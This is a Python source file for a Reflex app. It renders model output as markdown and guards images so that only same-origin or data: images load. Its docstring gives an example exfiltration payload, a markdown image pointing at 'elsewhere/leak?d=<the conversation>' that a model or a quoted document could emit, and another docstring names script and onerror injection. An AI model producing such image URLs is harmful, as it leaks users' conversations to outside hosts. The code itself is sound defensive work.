"""Model text as markdown with KaTeX math; raw HTML is shown as text, never as DOM, and an
image loads only from the app's own origin or `data:` (anything else is a link naming its
host: a model — or a document it quotes — must not make the learner's browser fetch
`![t](https://elsewhere/leak?d=<the conversation>)`). The page's Content-Security-Policy
(`ui.csp`) enforces the same rule a second time."""

from __future__ import annotations

from collections.abc import Sequence

import reflex as rx
from reflex_base.utils.imports import ImportVar
from reflex_base.vars.base import Var, VarData
from reflex_components_core.core.markdown_component_map import MarkdownComponentMap

FOREIGN_IMAGE_CLASS = "lh-foreign-image"

GUARDED_IMAGE_JS = """
const here = typeof window === "undefined" ? null : window.location;
const words = alt || title || "image";
let url = null;
try { url = src ? new URL(src, here ? here.href : "http://invalid.invalid/") : null; }
catch (error) { url = null; }
if (url !== null && here !== null && (url.protocol === "data:" || url.origin === here.origin)) {
  return jsx("img", {src: src, alt: alt ?? "", title: title, style: {maxWidth: "100%"}});
}
if (url === null || !/^https?:$/.test(url.protocol)) {
  return jsx("span", {className: "lh-image-alt"}, words);
}
return jsx("a", {href: url.href, className: "FOREIGN", rel: "noopener noreferrer nofollow",
  target: "_blank"}, words + " (image from " + url.host + ")");
""".replace("FOREIGN", FOREIGN_IMAGE_CLASS)
"""The markdown `img` renderer: same-origin and `data:` images load; an `http(s)` image
anywhere else becomes a link saying which host it is on; anything else is its words."""


class GuardedImage(MarkdownComponentMap, rx.Fragment):
    """The `img` entry of the markdown component map (`GUARDED_IMAGE_JS` is its body)."""

    @classmethod
    def create_map_fn_var(
        cls,
        fn_body: Var | None = None,
        fn_args: Sequence[str] | None = None,
        explicit_return: bool | None = None,
        var_data: VarData | None = None,
    ) -> Var:
        jsx = VarData(imports={"@emotion/react": [ImportVar(tag="jsx")]})
        return super().create_map_fn_var(
            fn_body=Var(_js_expr=GUARDED_IMAGE_JS),
            fn_args=["node", "src", "alt", "title"],
            explicit_return=True,
            var_data=jsx,
        )


def _guarded_image(*children: object, **props: object) -> rx.Component:
    return GuardedImage.create()


def safe_markdown(text: rx.Var[str] | str) -> rx.Component:
    """`use_raw=False`: `<script>` or `<img onerror>` in model output stays inert text."""
    return rx.markdown(
        text, use_raw=False, class_name="lh-markdown", component_map={"img": _guarded_image}
    )
